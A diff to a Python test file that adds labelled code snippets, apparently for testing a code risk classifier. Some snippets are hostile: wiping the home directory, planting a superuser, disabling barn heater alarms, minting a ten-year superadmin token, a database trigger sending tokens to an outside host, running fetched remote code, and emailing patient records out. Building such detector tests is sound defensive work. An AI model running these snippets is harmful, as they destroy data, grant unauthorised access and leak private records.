@@ -13881,6 +13881,123 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.Popen(["python3", "-m", "http.server", "80", "-d", "/opt/portal/o365-signin"])\n',
             H,
         ),
+        # Round 78 (holdout532-543): conditional calls, superusers, alarm overrides, long admin tokens, uploaded plugins
+        (
+            'import os, shutil\n'
+            'from pathlib import Path\n'
+            'for e in Path.home().iterdir():\n'
+            '    (shutil.rmtree if e.is_dir() else os.remove)(e)\n',
+            H,
+        ),
+        (
+            'from django.contrib.auth import get_user_model\n'
+            'u = get_user_model().objects.create(username="x")\n'
+            'u.is_superuser = True\n'
+            'u.set_password("Pinecr33k!2024")\n'
+            'u.save()\n',
+            H,
+        ),
+        (
+            'import json\n'
+            'import paho.mqtt.client as mqtt\n'
+            'c = mqtt.Client()\n'
+            'c.connect("10.30.0.5")\n'
+            'c.publish("farm/barn1/cmd", json.dumps({"heaters": 0, "override_alarm": True}))\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'boto3.client("dynamodb").update_table(TableName="t", ProvisionedThroughput={"ReadCapacityUnits":'
+            ' 40000, "WriteCapacityUnits": 40000})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for t in requests.get("https://admin.example.com/tenants").json():\n'
+            '    requests.post(f"https://admin.example.com/users/{t[\'owner\']}/magic-link", json={"skip_mfa": '
+            'True})\n',
+            H,
+        ),
+        (
+            'import jwt, time, os\n'
+            'now = int(time.time())\n'
+            'claims = {"sub": "bot", "scopes": ["platform:superadmin"], "exp": now + 10 * 365 * 86400}\n'
+            'print(jwt.encode(claims, os.environ["K"], algorithm="HS256"))\n',
+            H,
+        ),
+        (
+            'import jwt, time, os\n'
+            'claims = {"sub": "u1", "scopes": ["read"], "exp": int(time.time()) + 900}\n'
+            'print(jwt.encode(claims, os.environ["K"], algorithm="HS256"))\n',
+            S,
+        ),
+        (
+            'import importlib.util\n'
+            'from pathlib import Path\n'
+            'for p in Path("/srv/uploads").glob("*/plugins/*.py"):\n'
+            '    spec = importlib.util.spec_from_file_location(p.stem, p)\n'
+            '    m = importlib.util.module_from_spec(spec)\n'
+            '    spec.loader.exec_module(m)\n',
+            H,
+        ),
+        (
+            'import psycopg, os\n'
+            'conn = psycopg.connect(os.environ["DATABASE_URL"])\n'
+            'conn.execute("CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM http_post(\'https://hooks.e'
+            'xample.net/i\', NEW.token); RETURN NEW; END $$ LANGUAGE plpgsql")\n',
+            H,
+        ),
+        (
+            'import os, sys, psycopg\n'
+            'dsn = os.environ["STAGING_DSN"]\n'
+            'if "staging" not in dsn or "prod" in dsn:\n'
+            '    sys.exit("refusing")\n'
+            'with psycopg.connect(dsn) as c:\n'
+            '    c.execute("UPDATE users SET email = \'u\' || id || \'@example.invalid\', phone = NULL")\n',
+            S,
+        ),
+        (
+            'import psycopg, os\n'
+            'c = psycopg.connect(os.environ["DSN"])\n'
+            'c.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = \'idle in transac'
+            'tion\' AND now() - state_change > interval \'1 hour\'")\n',
+            S,
+        ),
+        (
+            'import boto3, json\n'
+            'iam = boto3.client("iam")\n'
+            'new = iam.create_access_key(UserName="ci")["AccessKey"]\n'
+            'boto3.client("secretsmanager").put_secret_value(SecretId="ci/aws", SecretString=json.dumps(new))\n',
+            M,
+        ),
+        (
+            'import boto3\n'
+            'print(boto3.client("iam").create_access_key(UserName="ci")["AccessKey"])\n',
+            H,
+        ),
+        (
+            'import subprocess, requests\n'
+            'for r in requests.get("https://api.github.com/orgs/x/repos").json():\n'
+            '    subprocess.run(["git", "-C", "/srv/backups/" + r["name"], "remote", "update"])\n',
+            L,
+        ),
+        (
+            'import subprocess, requests\n'
+            'code = requests.get("https://gist.example.net/raw/x.rb").text\n'
+            'subprocess.run(["knife", "exec", "-E", code])\n',
+            C,
+        ),
+        (
+            'import sqlite3, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'db = sqlite3.connect("/var/lib/rx/v.db")\n'
+            'rows = db.execute("SELECT patient_name, mrn, drug FROM dispenses").fetchall()\n'
+            'm = EmailMessage()\n'
+            'm["To"] = "k.dunn@gmail.com"\n'
+            'm.set_content(str(rows))\n'
+            'smtplib.SMTP_SSL("smtp.gmail.com").send_message(m)\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
